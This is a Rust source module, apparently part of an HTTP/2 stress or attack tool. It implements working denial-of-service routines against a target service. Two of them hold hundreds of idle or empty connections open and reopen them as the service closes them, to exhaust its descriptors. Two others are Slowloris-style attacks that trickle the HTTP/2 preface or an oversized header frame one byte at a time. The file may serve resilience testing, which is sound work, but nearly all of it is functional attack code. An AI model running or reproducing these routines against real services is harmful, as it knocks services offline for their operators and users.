//! Connections that do nothing, or hardly anything.

use std::io::{self, Write};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use crate::attacker::Attacker;
use crate::frames::{self, PREFACE, flag, frame, frame_type};
use crate::link::{Link, Reading};
use crate::messages::EXAMPLE;
use crate::progress;

/// Connections of one attacker that are idle, more than the service has descriptors for in `connections`.
const IDLE: usize = 512;

/// Connections of one attacker that are slow.
const SLOW: usize = 64;

/// How long a slow connection takes for each byte.
const BYTE: Duration = Duration::from_millis(200);

/// How long to wait before connections that have been closed are replaced: hardly at all for those that are to be many, and
/// longer for those that are to be idle.
const AT_ONCE: Duration = Duration::from_millis(20);
const LATER: Duration = Duration::from_secs(1);

/// Connections that are opened and then left alone.
pub(super) fn idle(attacker: Attacker) -> io::Result<()> {
    let mut opening = PREFACE.to_vec();
    frame(&mut opening, frame_type::SETTINGS, 0, 0, &[]);
    keep(attacker, &opening, LATER)
}

/// Connections that send nothing, replaced as soon as the service closes them.
pub(super) fn flood(attacker: Attacker) -> io::Result<()> {
    keep(attacker, &[], AT_ONCE)
}

/// Opens connections, and replaces those that the service closes after a while.
fn keep(attacker: Attacker, opening: &[u8], after: Duration) -> io::Result<()> {
    let mut sockets = Vec::new();
    loop {
        while sockets.len() < IDLE {
            let mut socket = TcpStream::connect(attacker.target)?;
            progress::connected();
            // The service may have closed it already.
            if socket.write_all(opening).is_ok() {
                progress::sent(opening.len());
            }
            socket.set_nonblocking(true)?;
            sockets.push(socket);
        }
        thread::sleep(after);
        sockets.retain(is_open);
    }
}

/// Returns whether the peer has not closed the connection. What it has sent stays unread.
fn is_open(socket: &TcpStream) -> bool {
    match socket.peek(&mut [0; 1]) {
        Ok(bytes) => bytes > 0,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    }
}

/// Connections that are about to speak HTTP/2.
pub(super) fn slow_preface(attacker: Attacker) -> io::Result<()> {
    slowly(attacker, &[], PREFACE)
}

/// Connections that are about to make a call.
pub(super) fn slow_headers(attacker: Attacker) -> io::Result<()> {
    let mut opening = PREFACE.to_vec();
    frame(&mut opening, frame_type::SETTINGS, 0, 0, &[]);
    let mut headers = Vec::new();
    let more = [("x-slow", "x".repeat(1000))];
    let more: Vec<(&str, &str)> = more.iter().map(|(name, value)| (*name, value.as_str())).collect();
    frame(&mut headers, frame_type::HEADERS, flag::END_HEADERS, 1, &frames::call_headers(EXAMPLE, &more));
    slowly(attacker, &opening, &headers)
}

/// Sends `slow` byte by byte on many connections at once, and begins again where one has ended.
fn slowly(attacker: Attacker, opening: &[u8], slow: &[u8]) -> io::Result<()> {
    let mut links: Vec<(Link, usize)> = Vec::new();
    loop {
        while links.len() < SLOW {
            let mut link = Link::silent(attacker.target, Reading::Fast)?;
            link.raw(opening)?;
            link.flush()?;
            links.push((link, 0));
        }
        thread::sleep(BYTE);
        links.retain_mut(|(link, sent)| {
            let Some(byte) = slow.get(*sent) else { return false };
            *sent += 1;
            link.raw(&[*byte]).and_then(|()| link.flush()).is_ok()
        });
    }
}
